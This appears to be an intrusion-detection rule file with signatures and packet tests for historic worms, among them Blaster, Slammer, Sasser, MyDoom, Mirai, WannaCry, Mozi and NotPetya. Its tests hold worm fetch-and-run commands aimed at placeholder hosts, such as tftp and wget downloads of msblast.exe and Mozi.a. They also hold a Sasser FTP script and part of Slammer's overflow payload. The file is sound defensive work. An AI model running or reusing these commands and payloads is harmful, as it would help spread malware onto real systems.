//! Worms, by what they send: Code Red and Nimda ask web servers and stand in web.sig. Each fact is in the public description
//! that is named; literals are those that the descriptions quote.
//!
//! One packet is looked at, at a time: an exploit that its sender splits into segments is not found.

/// Ports on which a Windows host answers DCE/RPC: directly, over SMB, over HTTP (Microsoft MS03-026).
const rpc_ports = { 135, 139, 445, 593 }

/// The interface IRemoteActivation, 4d9f4ab8-7d1c-11cf-861e-0020af6e7c57 (MS-DCOM), as it stands in a bind: three numbers with
/// the low byte first, then bytes.
const remote_activation = hex"b8 4a 9f 4d 1c 7d cf 11 86 1e 00 20 af 6e 7c 57"

/// `\C$\123456111111111111111.doc` in UTF-16: the file that the published exploit for MS03-026 pretends to ask for, and Blaster
/// with it. What overflows is the server's name before it.
const blaster_path = hex"5c 00 43 00 24 00 5c 00 31 00 32 00 33 00 34 00 35 00 36 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 2e 00 64 00 6f 00 63 00"

/// The longest name of an instance that SQL Server's resolution service may be asked for: 32 bytes and a zero, behind one byte
/// that says what is asked (MS-SQLR 2.2.3).
const longest_sql_request = 34

/// A TFTP read request (RFC 1350 5): operation 1; the file's name follows at once.
predicate tftp_read = udp.dst_port == 69 and payload contains hex"00 01" at 0

// Blaster -------------------------------------------------------------------------------------------------------------

/// A client asks for the interface that CVE-2003-0352 is in. Old Windows clients do so honestly, so this one only logs.
signature dcom_activation_bind {
  id       1000201
  title    "DCOM RemoteActivation requested"
  severity low
  class    recon
  ref      cve "CVE-2003-0352"
  ref      cert "CA-2003-16"
  // Version 5.0, type 11: bind (C706, 12.6.4.3). The first interface's name stands at byte 32.
  when     tcp.dst_port in rpc_ports
       and payload contains hex"05 00 0b" at 0
       and payload contains remote_activation at 32
  then     log
}

/// Blaster's exploit for the overflow in DCOM (CERT CA-2003-20).
signature blaster_exploit {
  id       1000202
  title    "Blaster: DCOM exploit"
  severity critical
  class    worm
  ref      cert "CA-2003-20"
  ref      cve "CVE-2003-0352"
  ref      url "https://learn.microsoft.com/security-updates/securitybulletins/2003/ms03-026"
  when     tcp.dst_port in rpc_ports
       and payload contains blaster_path
  then     log, drop
}

/// The shell that the exploit opens on port 4444 is told to fetch the worm (CERT CA-2003-20).
signature blaster_shell {
  id       1000203
  title    "Blaster: command to fetch the worm"
  severity critical
  class    worm
  ref      cert "CA-2003-20"
  when     tcp.dst_port == 4444
       and payload contains "tftp" nocase
       and payload contains "msblast.exe" nocase
  then     log, drop
}

/// The victim fetches the worm from its attacker by TFTP: msblast.exe, in two variants penis32.exe and teekids.exe.
signature blaster_download {
  id       1000204
  title    "Blaster: download by TFTP"
  severity critical
  class    worm
  ref      cert "CA-2003-20"
  when     tftp_read
       and (payload contains "msblast.exe\0" nocase at 2
         or payload contains "penis32.exe\0" nocase at 2
         or payload contains "teekids.exe\0" nocase at 2)
  then     log, drop
}

/// Nachi, which hunted Blaster, pings before it attacks: 64 bytes of 0xAA (SANS Internet Storm Center, 2003-08-26).
signature nachi_ping {
  id       1000205
  title    "Nachi: ping before the attack"
  severity medium
  class    worm
  ref      url "https://dshield.org/diaryarchive.html?year=2003&month=8"
  when     icmp.type == 8
       and icmp.payload == hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
  then     log, drop
}

// MyDoom --------------------------------------------------------------------------------------------------------------

/// The mail with which MyDoom travels: one of three sentences, and an attachment (US-CERT TA04-028A, CERT-In CIIN-2004-02).
/// Where the sentence and the attachment's header are in different segments, nothing is found; where somebody forwards such a
/// mail with an attachment of another kind, it is found wrongly. So this one only logs.
signature mydoom_mail {
  id       1000206
  title    "MyDoom: infected mail"
  severity high
  class    worm
  ref      cert "TA04-028A"
  ref      cert "IN-2004-01"
  when     tcp.dst_port in { 25, 465, 587 }
       and (payload contains "The message contains Unicode characters and has been sent as a binary attachment."
         or payload contains "The message cannot be represented in 7-bit ASCII encoding and has been sent as a binary attachment."
         or payload contains "Mail transaction failed. Partial message is available.")
       and payload contains "Content-Disposition: attachment" nocase
  then     log
}

/// MyDoom.A listens on the first free port from 3127 to 3198 (US-CERT TA04-028A). What begins with these five bytes, it stores
/// and runs: Doomjuice and others spread that way (the bytes: Snort's rule 3272, "mydoom.a backdoor upload/execute attempt").
signature mydoom_backdoor {
  id       1000207
  title    "MyDoom: program for the backdoor"
  severity critical
  class    backdoor
  ref      cert "TA04-028A"
  ref      snort "3272"
  when     tcp.dst_port in 3127..3198
       and payload contains hex"85 13 3c 9e a2" at 0
  then     log, drop
}

// Slammer -------------------------------------------------------------------------------------------------------------

/// Slammer: one datagram of 376 bytes. 4 asks the resolution service for an instance, whose name is too long; the names of
/// libraries and functions that the worm puts together on the stack stand in it in clear (CERT CA-2003-04).
signature slammer {
  id       1000208
  title    "SQL Slammer"
  severity critical
  class    worm
  ref      cert "CA-2003-04"
  ref      cve "CVE-2002-0649"
  when     udp.dst_port == 1434
       and payload contains hex"04" at 0
       and payload contains "dllhel32hkernQhounthickChGetTf"
  then     log, drop
}

/// The overflow that Slammer uses, whoever uses it: an instance's name that is longer than any (CVE-2002-0649).
signature sql_resolution_overflow {
  id       1000209
  title    "SQL Server resolution service: name too long"
  severity high
  class    exploit
  ref      cve "CVE-2002-0649"
  ref      cert "CA-2002-22"
  when     udp.dst_port == 1434
       and payload contains hex"04" at 0
       and payload.length > longest_sql_request
  then     log, drop
}

// Sasser --------------------------------------------------------------------------------------------------------------

/// Sasser tells the shell that its exploit has opened to fetch the worm, named by four or five digits and `_up.exe`, from
/// the FTP server on port 5554 (Microsoft MS04-011 and the worm's public descriptions).
signature sasser_shell {
  id       1000210
  title    "Sasser: command to fetch the worm"
  severity critical
  class    worm
  ref      cve "CVE-2003-0533"
  when     tcp.dst_port in { 9995, 9996 }
       and payload contains "_up.exe"
       and payload contains "5554"
  then     log, drop
}

/// The victim fetches Sasser.
signature sasser_download {
  id       1000211
  title    "Sasser: download by FTP"
  severity critical
  class    worm
  ref      cve "CVE-2003-0533"
  when     tcp.dst_port == 5554
       and payload contains "RETR " nocase at 0
       and payload contains "_up.exe" in 8..31
  then     log, drop
}

// Others --------------------------------------------------------------------------------------------------------------

/// Nimda fetches itself by TFTP as Admin.dll (CERT CA-2001-26).
signature nimda_download {
  id       1000212
  title    "Nimda: download by TFTP"
  severity critical
  class    worm
  ref      cert "CA-2001-26"
  when     tftp_read
       and payload contains "admin.dll\0" nocase at 2
  then     log, drop
}

/// Witty: a datagram that claims to come from an ICQ server, port 4000, to overflow a firewall's ICQ decoder (CVE-2004-0362).
signature witty {
  id       1000213
  title    "Witty"
  severity critical
  class    worm
  ref      cve "CVE-2004-0362"
  ref      url "https://www.caida.org/archive/witty/"
  when     udp.src_port == 4000
       and payload contains "insert witty message here"
  then     log, drop
}

/// Mirai asks the shell of a camera or router for an applet that does not exist, to know by the answer that it has a shell
/// (US-CERT TA16-288A).
signature mirai_shell {
  id       1000214
  title    "Mirai: test for a shell"
  severity high
  class    worm
  ref      cert "TA16-288A"
  when     tcp.dst_port in { 23, 2323 }
       and payload contains "/bin/busybox MIRAI"
  then     log, drop
}

/// WannaCry looks up a name, and stops where the web server behind it answers. So this is never dropped: that would let the
/// worm go on. The host that asked is infected (US-CERT TA17-132A).
signature wannacry_lookup {
  id       1000215
  title    "WannaCry: look-up of the kill switch"
  severity critical
  class    worm
  ref      cert "TA17-132A"
  when     udp.dst_port == 53
           and payload contains "\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0" nocase at 12
        or tcp.dst_port == 53
           and payload contains "\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0" nocase at 14
  then     log
}

// Tests ---------------------------------------------------------------------------------------------------------------

test "a bind to RemoteActivation" {
  packet { ipv4  tcp { dst_port 135  flags PSH | ACK }  payload hex"05 00 0b 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 b8 4a 9f 4d 1c 7d cf 11 86 1e 00 20 af 6e 7c 57 00 00 00 00 04 5d 88 8a eb 1c c9 11 9f e8 08 00 2b 10 48 60 02 00 00 00" }
  expect dcom_activation_bind, verdict accept
}
test "not a bind to RemoteActivation: the endpoint mapper, and the answer" {
  packet { ipv4  tcp { dst_port 135  flags PSH | ACK }  payload hex"05 00 0b 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 08 83 af e1 1f 5d c9 11 91 a4 08 00 2b 14 a0 fa 03 00 00 00 04 5d 88 8a eb 1c c9 11 9f e8 08 00 2b 10 48 60 02 00 00 00" }
  packet { ipv4  tcp { dst_port 135  flags PSH | ACK }  payload hex"05 00 00 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 b8 4a 9f 4d 1c 7d cf 11 86 1e 00 20 af 6e 7c 57" }
  packet { ipv4  tcp { src_port 135  dst_port 50000  flags PSH | ACK }  payload hex"05 00 0b 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 b8 4a 9f 4d 1c 7d cf 11 86 1e 00 20 af 6e 7c 57" }
  expect none
}
test "Blaster's exploit" {
  packet { ipv4  tcp { dst_port 135  flags PSH | ACK }  payload hex"05 00 00 03 10 00 00 00 a8 06 00 00 e5 00 00 00 90 06 00 00 01 00 04 00 5c 00 5c 00 46 00 58 00 4e 00 42 00 5c 00 43 00 24 00 5c 00 31 00 32 00 33 00 34 00 35 00 36 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 2e 00 64 00 6f 00 63 00 00 00" }
  expect blaster_exploit, verdict drop
}
test "not Blaster's exploit: another file on a share, and the path in a download" {
  packet { ipv4  tcp { dst_port 135  flags PSH | ACK }  payload hex"05 00 00 03 10 00 00 00 5c 00 5c 00 61 00 5c 00 43 00 24 00 5c 00 31 00 32 00 33 00 34 00 35 00 36 00 2e 00 64 00 6f 00 63 00" }
  packet { ipv4  tcp { src_port 80  dst_port 50000  flags PSH | ACK }  payload blaster_path }
  expect none
}
test "Blaster's command" {
  packet { ipv4  tcp { dst_port 4444  flags PSH | ACK }  payload "tftp -i 10.0.0.9 GET msblast.exe\n" }
  expect blaster_shell, verdict drop
}
test "not Blaster's command: another program, another way, and talk about it" {
  packet { ipv4  tcp { dst_port 4444  flags PSH | ACK }  payload "del msblast.exe\n" }
  packet { ipv4  tcp { dst_port 4444  flags PSH | ACK }  payload "tftp -i 10.0.0.9 GET firmware.bin\n" }
  packet {
    ipv4
    tcp { dst_port 80  flags PSH | ACK }
    payload "POST /forum HTTP/1.1\r\n\r\ntftp -i 10.0.0.9 GET msblast.exe"
  }
  expect none
}
test "Blaster is fetched" {
  packet { ipv4  udp { dst_port 69 }  payload "\0\x01msblast.exe\0octet\0" }
  packet { ipv4  udp { dst_port 69 }  payload "\0\x01MSBLAST.EXE\0octet\0" }
  packet { ipv4  udp { dst_port 69 }  payload "\0\x01teekids.exe\0octet\0" }
  packet { ipv4  udp { dst_port 69 }  payload "\0\x01penis32.exe\0octet\0" }
  expect blaster_download * 4, verdict drop
}
test "not Blaster's download: other names, and a write" {
  packet { ipv4  udp { dst_port 69 }  payload "\0\x01pxelinux.0\0octet\0" }
  packet { ipv4  udp { dst_port 69 }  payload "\0\x01msblast.exe.txt\0octet\0" }
  packet { ipv4  udp { dst_port 69 }  payload "\0\x02msblast.exe\0octet\0" }
  packet { ipv4  udp { dst_port 7069 }  payload "\0\x01msblast.exe\0octet\0" }
  expect none
}
test "Nachi's ping" {
  packet { ipv4  icmp { type 8 }  payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" }
  expect nachi_ping, verdict drop
}
test "not Nachi's ping: the answer, another length, Windows' alphabet" {
  packet { ipv4  icmp { type 0 }  payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" }
  packet { ipv4  icmp { type 8 }  payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" }
  packet { ipv4  icmp { type 8 }  payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab" }
  packet { ipv4  icmp { type 8 }  payload "abcdefghijklmnopqrstuvwabcdefghi" }
  expect none
}

test "MyDoom's mail" {
  packet { ipv4  tcp { dst_port 25  flags PSH | ACK }  payload "The message contains Unicode characters and has been sent as a binary attachment.\r\n\r\n--b\r\nContent-Disposition: attachment;\r\n filename=\"body.zip\"\r\n" }
  packet { ipv6  tcp { dst_port 25  flags PSH | ACK }  payload "The message cannot be represented in 7-bit ASCII encoding and has been sent as a binary attachment.\r\n--b\r\nContent-Disposition: attachment; filename=\"doc.scr\"\r\n" }
  packet { ipv4  tcp { dst_port 587  flags PSH | ACK }  payload "Mail transaction failed. Partial message is available.\r\n--b\r\nContent-Disposition: attachment; filename=\"text.pif\"\r\n" }
  expect mydoom_mail * 3, verdict accept
}
test "not MyDoom's mail: a warning that quotes it, an honest attachment, and a page" {
  packet { ipv4  tcp { dst_port 80  flags PSH | ACK }  payload "Mail transaction failed. Partial message is available.\r\n--b\r\nContent-Disposition: attachment; filename=\"text.pif\"\r\n" }
  packet { ipv4  tcp { dst_port 25  flags PSH | ACK }  payload "Beware of mail that says: The message contains Unicode characters and has been sent as a binary attachment.\r\n" }
  packet { ipv4  tcp { dst_port 25  flags PSH | ACK }  payload "The minutes, as a binary attachment.\r\n--b\r\nContent-Disposition: attachment; filename=\"minutes.pdf\"\r\n" }
  expect none
}
test "a program for MyDoom's backdoor" {
  packet { ipv4  tcp { dst_port 3127  flags PSH | ACK }  payload hex"85 13 3c 9e a2 4d 5a 90 00" }
  packet { ipv6  tcp { dst_port 3198  flags PSH | ACK }  payload hex"85 13 3c 9e a2 4d 5a 90 00" }
  expect mydoom_backdoor * 2, verdict drop
}
test "not for MyDoom's backdoor: a proxy on its port, and the bytes elsewhere" {
  packet { ipv4  tcp { dst_port 3128  flags PSH | ACK }  payload "GET http://example.org/ HTTP/1.1\r\n\r\n" }
  packet { ipv4  tcp { dst_port 3128  flags PSH | ACK }  payload hex"00 85 13 3c 9e a2" }
  packet { ipv4  tcp { dst_port 3199  flags PSH | ACK }  payload hex"85 13 3c 9e a2" }
  expect none
}

test "Slammer" {
  packet { ipv4  udp { dst_port 1434 }  payload hex"04 01010101010101010101010101010101 01010101010101010101010101010101 01010101010101010101010101010101 dcc9b042eb0e01010101010101 70ae420170ae42 9090909090909090 68dcc9b042 51682e646c6c68656c3332686b65726e51686f756e746869636b43684765745466b96c6c" }
  expect slammer, sql_resolution_overflow, verdict drop
}
test "not Slammer: another service, another request" {
  packet {
    ipv4
    udp { dst_port 1433 }
    payload "\x04AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQh.dllhel32hkernQhounthickChGetTf"
  }
  packet {
    ipv4
    udp { dst_port 1434 }
    payload "\x05AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQh.dllhel32hkernQhounthickChGetTf"
  }
  expect none
}
test "not Slammer, but the same hole" {
  packet { ipv4  udp { dst_port 1434 }  payload "\x04AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\0" }
  expect sql_resolution_overflow, verdict drop
}
test "not the hole: the longest name, a broadcast, and a long datagram for another service" {
  packet { ipv4  udp { dst_port 1434 }  payload "\x04ABCDEFGHIJKLMNOPQRSTUVWXYZ012345\0" }
  packet { ipv4  udp { dst_port 1434 }  payload "\x02" }
  packet { ipv4  udp { dst_port 1434 }  payload "\x05AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" }
  packet { ipv4  udp { dst_port 1433 }  payload "\x04AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" }
  expect none
}

test "Sasser's command" {
  packet {
    ipv4
    tcp { dst_port 9996  flags PSH | ACK }
    payload "echo open 10.0.0.9 5554>>cmd.ftp&echo get 74354_up.exe>>cmd.ftp\n"
  }
  expect sasser_shell, verdict drop
}
test "not Sasser's command: another file, another port" {
  packet {
    ipv4
    tcp { dst_port 9996  flags PSH | ACK }
    payload "echo open 10.0.0.9 5554>>cmd.ftp&echo get setup.exe>>cmd.ftp\n"
  }
  packet { ipv4  tcp { dst_port 9996  flags PSH | ACK }  payload "status of 74354_up.exe\n" }
  packet {
    ipv4
    tcp { dst_port 25  flags PSH | ACK }
    payload "echo open 10.0.0.9 5554>>cmd.ftp&echo get 74354_up.exe>>cmd.ftp\n"
  }
  expect none
}
test "Sasser is fetched" {
  packet { ipv4  tcp { dst_port 5554  flags PSH | ACK }  payload "RETR 74354_up.exe\r\n" }
  expect sasser_download, verdict drop
}
test "not Sasser's download: another file, another command, another server" {
  packet { ipv4  tcp { dst_port 5554  flags PSH | ACK }  payload "DELE 74354_up.exe\r\n" }
  packet { ipv4  tcp { dst_port 5554  flags PSH | ACK }  payload "RETR readme.txt\r\n" }
  packet { ipv4  tcp { dst_port 21  flags PSH | ACK }  payload "RETR 74354_up.exe\r\n" }
  expect none
}

test "Nimda is fetched" {
  packet { ipv4  udp { dst_port 69 }  payload "\0\x01Admin.dll\0octet\0" }
  expect nimda_download, verdict drop
}
test "not Nimda's download: another library" {
  packet { ipv4  udp { dst_port 69 }  payload "\0\x01sysadmin.dll\0octet\0" }
  expect none
}
test "Witty" {
  packet {
    ipv4
    udp { src_port 4000  dst_port 31337 }
    payload "\x05\0\0\0\0\0\0\x12\x02 (^.^)      insert witty message here      (^.^)"
  }
  expect witty, verdict drop
}
test "not Witty: ICQ, and talk about Witty" {
  packet { ipv4  udp { src_port 4000  dst_port 31337 }  payload "\x05\0\0\0\0\0\0\x12\x02" }
  packet { ipv4  udp { src_port 4001  dst_port 31337 }  payload "insert witty message here" }
  expect none
}
test "Mirai tries a shell" {
  packet { ipv4  tcp { dst_port 23  flags PSH | ACK }  payload "/bin/busybox MIRAI\r\n" }
  packet { ipv4  tcp { dst_port 2323  flags PSH | ACK }  payload "/bin/busybox MIRAI\r\n" }
  expect mirai_shell * 2, verdict drop
}
test "not Mirai: an applet that exists" {
  packet { ipv4  tcp { dst_port 23  flags PSH | ACK }  payload "/bin/busybox ls\r\n" }
  packet { ipv4  tcp { src_port 23  dst_port 50000  flags PSH | ACK }  payload "/bin/busybox MIRAI\r\n" }
  expect none
}
test "WannaCry asks for its kill switch, and gets through" {
  packet {
    ipv4
    udp { dst_port 53 }
    payload "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0\0\x01\0\x01"
  }
  packet {
    ipv6
    tcp { dst_port 53  flags PSH | ACK }
    payload "\0\x3f\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x29IUQERFSODP9IFJAPOSDFJHGOSURIJFAEWRWERGWEA\x03com\0\0\x01\0\x01"
  }
  expect wannacry_lookup * 2, verdict accept
}
test "not WannaCry: other names, and the answers" {
  packet {
    ipv4
    tcp { dst_port 53  flags PSH | ACK }
    payload "\0\x1d\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\x01\0\x01"
  }
  packet { ipv4  tcp { src_port 53  dst_port 50000  flags PSH | ACK }  payload "\0\x3f\x12\x34\x81\x80\0\x01\0\x01\0\0\0\0\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0\0\x01\0\x01" }
  packet { ipv4  udp { dst_port 53 }  payload "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\x01\0\x01" }
  packet {
    ipv4
    udp { src_port 53  dst_port 50000 }
    payload "\x12\x34\x81\x80\0\x01\0\x01\0\0\0\0\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0\0\x01\0\x01"
  }
  expect none
}

test "honest traffic" {
  pcap "captures/mixed-benign.pcap"
  pcap "captures/web.pcap"
  pcap "captures/nmap-os.pcap"
  expect none
}

// Further worms, each with its tests --------------------------------------------------------------------------------

/// Mozi's program for one processor or another, fetched from whichever infected device tells a router to, or the command that says so.
signature mozi_download {
  id       1000216
  title    "Mozi: download"
  severity critical
  class    worm
  ref      url "https://blog.netlab.360.com/mozi-another-botnet-using-dht/"
  ref      mitre "T1105"
  when     tcp and (payload contains "/Mozi.m" in 0..1023 or payload contains "/Mozi.a" in 0..1023)
  then     log, drop
}
test "fetched, and told to fetch" {
  packet { ipv4  tcp { dst_port 41000  payload "GET /Mozi.m HTTP/1.0\r\n" } }
  packet { ipv4  tcp { dst_port 23  payload "wget http://198.51.100.9:41000/Mozi.a -O /tmp/x\n" } }
  expect mozi_download * 2, verdict drop
}
test "near miss: a browser's page, UDP" {
  packet { ipv4  tcp { dst_port 80  payload "GET /blog/mozilla HTTP/1.1\r\n" } }
  packet { ipv4  udp { dst_port 80  payload "GET /Mozi.m" } }
  expect none
}

/// The name under which the worm writes itself to the Windows folder of the next host, in UTF-16.
signature notpetya_copy {
  id       1000217
  title    "NotPetya: copy to another host"
  severity critical
  class    worm
  ref      cert "TA17-181A"
  ref      mitre "T1021.002"
  when     tcp.dst_port in { 139, 445 }
       and payload contains hex"70 00 65 00 72 00 66 00 63 00 2e 00 64 00 61 00 74 00" nocase
  then     log, drop
}
test "perfc.dat" {
  packet {
    ipv4
    tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 70 00 65 00 72 00 66 00 63 00 2e 00 64 00 61 00 74 00" }
  }
  expect notpetya_copy, verdict drop
}
test "near miss: perfh.dat, which is Windows' own, and another service" {
  packet {
    ipv4
    tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 70 00 65 00 72 00 66 00 68 00 2e 00 64 00 61 00 74 00" }
  }
  packet { ipv4  tcp { dst_port 80  payload hex"70 00 65 00 72 00 66 00 63 00 2e 00 64 00 61 00 74 00" } }
  expect none
}

/// The name of the service by which PsExec runs programs elsewhere, in UTF-16: NotPetya and others bring it along. Logged only:
/// it is an administrator's tool.
signature psexec_service {
  id       1000218
  title    "PsExec: its service is installed"
  severity medium
  class    worm
  ref      mitre "T1569.002"
  ref      cert "TA17-181A"
  when     tcp.dst_port in { 139, 445 } and payload contains hex"50 00 53 00 45 00 58 00 45 00 53 00 56 00 43 00" nocase
  then     log
}
test "PSEXESVC" {
  packet {
    ipv4
    tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 50 00 53 00 45 00 58 00 45 00 53 00 56 00 43 00" }
  }
  expect psexec_service, verdict accept
}
test "near miss: another pipe, and another service" {
  packet { ipv4  tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 73 00 70 00 6f 00 6f 00 6c 00 73 00 73 00" } }
  packet { ipv4  tcp { dst_port 80  payload hex"50 00 53 00 45 00 58 00 45 00 53 00 56 00 43 00" } }
  expect none
}
